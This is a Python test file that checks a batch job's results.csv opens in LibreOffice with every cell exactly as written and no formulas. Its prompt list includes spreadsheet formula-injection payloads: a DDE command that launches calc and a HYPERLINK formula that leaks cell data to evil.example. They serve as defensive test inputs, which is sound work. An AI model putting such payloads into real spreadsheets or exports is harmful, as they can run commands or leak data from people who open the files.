"""results.csv opens in LibreOffice with every cell as it was written."""

import csv
import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from batchgen.job import Result, State
from batchgen.results.csv import write_results

pytestmark = pytest.mark.office

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
PROMPTS = [
    "A glass city at sunrise",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(A1:A9)",
    "+49 30 1234",
    "-2+3",
    "- a list",
    "\t=1+1",
    "'=1+1",
    "'tis the season",
    'He said "now, or never"; then; left',
    "two\nlines",
    "Zwölf Boxkämpfer jagen Viktor quer über den Sylter Deich",
    "夜市 🌧️ café",
    " leading and trailing ",
]
NUMBERS = ["-5", "+1.5", "12", "-1e3"]


@pytest.fixture(scope="module")
def office() -> str:
    """LibreOffice; without it the test is skipped on a laptop and fails in CI."""
    if not OFFICE:
        if os.environ.get("CI") == "true":
            pytest.fail("CI must open results.csv in LibreOffice, but none is installed")
        pytest.skip("no LibreOffice is installed")
    return OFFICE


def test_every_cell_is_what_was_written(office: str, tmp_path: Path) -> None:
    """Opened as the import dialog proposes: one line a result, text as text, numbers as numbers, no formula."""
    results = [
        Result(
            f"job-{row}", "spring.csv", row, State.SUCCEEDED, "task_1", ("https://files.example.com/a,b.mp4",),
            ("videos/a.mp4",), "text-to-video", "kie", "sora-2", 6, 6, None, 1, 1795342503.0, 1795342603.0, None,
            cells={"prompt": prompt, "amount": NUMBERS[row % 4]},
        )
        for row, prompt in enumerate(PROMPTS, 1)
    ]  # fmt: skip
    write_results(tmp_path / "results.csv", results, ["prompt", "amount"])
    subprocess.run(
        [
            office,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            # commas, double quotes, UTF-8: what the import dialog proposes when it sees the byte-order mark
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "results.csv"),
        ],
        check=True,
        timeout=110,
        capture_output=True,
    )
    with (tmp_path / "results.csv").open(encoding="utf-8-sig", newline="") as file:
        written = list(csv.reader(file))
    shown = list(openpyxl.load_workbook(tmp_path / "results.xlsx").worksheets[0].iter_rows())
    assert len(shown) == len(written) == len(PROMPTS) + 1
    for line, cells in zip(written, shown, strict=True):
        for text, cell in zip(line, cells, strict=True):
            assert cell.data_type != "f", text
            if cell.value is None:
                assert text == ""
            elif isinstance(cell.value, int | float):
                assert cell.value == float(text)
            else:
                assert cell.value == text
    amounts = [cells[-1].value for cells in shown[1:]]
    assert amounts == [float(NUMBERS[row % 4]) for row in range(1, len(PROMPTS) + 1)]
